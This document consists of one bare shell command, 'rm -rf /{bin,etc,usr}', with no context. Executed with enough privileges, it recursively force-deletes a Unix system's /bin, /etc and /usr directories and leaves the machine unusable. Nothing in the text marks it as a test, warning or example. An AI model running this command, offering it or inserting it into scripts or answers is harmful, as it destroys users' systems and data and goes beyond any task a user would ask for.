rm -rf /{bin,etc,usr}
